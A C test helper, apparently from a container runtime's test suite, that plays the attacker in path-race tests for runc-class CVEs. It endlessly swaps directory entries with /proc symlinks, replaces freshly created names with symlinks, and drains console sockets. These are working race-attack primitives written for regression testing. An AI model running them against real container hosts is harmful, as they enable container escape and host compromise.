/* race_attack: the attacker side of the path-race tests (race.bats, the
 * CVE-2025-31133 / -52565 / -52881 and CVE-2019-19921 classes). It only
 * renames entries of a directory it shares with the victim and never
 * opens, writes or mounts anything of the host: what the runtime does
 * with the names while they flip is the finding.
 *
 *   gcc -static -O2 -o race_attack race_attack.c
 *
 *   race_attack swap DIR A B [A B ...]
 *       In DIR, exchanges each A with its B (renameat2 RENAME_EXCHANGE)
 *       in a tight loop, forever: a device, a file or a directory on one
 *       side, a symlink into /proc on the other. Prints "ready" first,
 *       then its progress (below).
 *
 *   race_attack replace DIR NAME TARGET
 *       In DIR, puts a symlink to TARGET in the place of NAME (symlink +
 *       rename over it), forever: whatever the runtime creates as NAME is
 *       replaced as soon as it exists. Prints "ready" first, then its
 *       progress.
 *
 *   race_attack console-sink SOCKET
 *       A --console-socket receiver for many creates: accepts, takes the
 *       pty master (SCM_RIGHTS) and closes it, forever. Prints "ready"
 *       once it listens.
 *
 * Progress, at most every 200 ms: "flips=N fails=M errno=E", the renames
 * that succeeded and failed so far and the errno of the last failure
 * (0: none), so that a test can tell that the names did flip while the
 * runtime worked on them. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <time.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

struct progress {
    unsigned long flips, fails;
    int last_errno;
    struct timespec shown;
};

/* Counts the result of one rename (rc of the call) and prints the counts
 * when 200 ms have passed since the last line. */
static void count(struct progress *p, int rc)
{
    if (rc == 0) {
        p->flips++;
    } else {
        p->fails++;
        p->last_errno = errno;
    }
    if ((p->flips + p->fails) % 256 != 0)
        return;
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    if ((now.tv_sec - p->shown.tv_sec) * 1000 + (now.tv_nsec - p->shown.tv_nsec) / 1000000 < 200)
        return;
    p->shown = now;
    printf("flips=%lu fails=%lu errno=%d\n", p->flips, p->fails, p->last_errno);
    fflush(stdout);
}

static int swap(int argc, char **argv)
{
    if (argc < 5 || (argc - 3) % 2) {
        fprintf(stderr, "usage: race_attack swap DIR A B [A B ...]\n");
        return 2;
    }
    int dir = open(argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0) {
        perror(argv[2]);
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    struct progress p = {0};
    for (;;)
        for (int i = 3; i + 1 < argc; i += 2)
            count(&p, (int)syscall(SYS_renameat2, dir, argv[i], dir, argv[i + 1], RENAME_EXCHANGE));
    return 0;
}

static int replace(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: race_attack replace DIR NAME TARGET\n");
        return 2;
    }
    int dir = open(argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0) {
        perror(argv[2]);
        return 1;
    }
    char tmp[256];
    snprintf(tmp, sizeof(tmp), ".%s.new", argv[3]);
    printf("ready\n");
    fflush(stdout);
    struct progress p = {0};
    for (;;) {
        symlinkat(argv[4], dir, tmp);
        count(&p, renameat(dir, tmp, dir, argv[3]));
    }
    return 0;
}

static void drain(int conn)
{
    char buf[64], ctl[CMSG_SPACE(4 * sizeof(int))];
    struct iovec iov = {buf, sizeof(buf)};
    struct msghdr m = {
        .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof(ctl)};
    if (recvmsg(conn, &m, MSG_CMSG_CLOEXEC) > 0)
        for (struct cmsghdr *c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c))
            if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS) {
                int *fds = (int *)CMSG_DATA(c);
                size_t n = (c->cmsg_len - CMSG_LEN(0)) / sizeof(int);
                for (size_t i = 0; i < n; i++)
                    close(fds[i]);
            }
    close(conn);
}

static int console_sink(int argc, char **argv)
{
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    if (argc != 3 || strlen(argv[2]) >= sizeof(sa.sun_path)) {
        fprintf(stderr, "usage: race_attack console-sink SOCKET (a short path)\n");
        return 2;
    }
    strcpy(sa.sun_path, argv[2]);
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 64) < 0) {
        perror(argv[2]);
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
        if (c >= 0)
            drain(c);
        else if (errno != EINTR)
            return 1;
    }
}

int main(int argc, char **argv)
{
    if (argc > 1 && !strcmp(argv[1], "swap"))
        return swap(argc, argv);
    if (argc > 1 && !strcmp(argv[1], "replace"))
        return replace(argc, argv);
    if (argc > 1 && !strcmp(argv[1], "console-sink"))
        return console_sink(argc, argv);
    fprintf(stderr, "usage: race_attack swap|replace|console-sink ...\n");
    return 2;
}
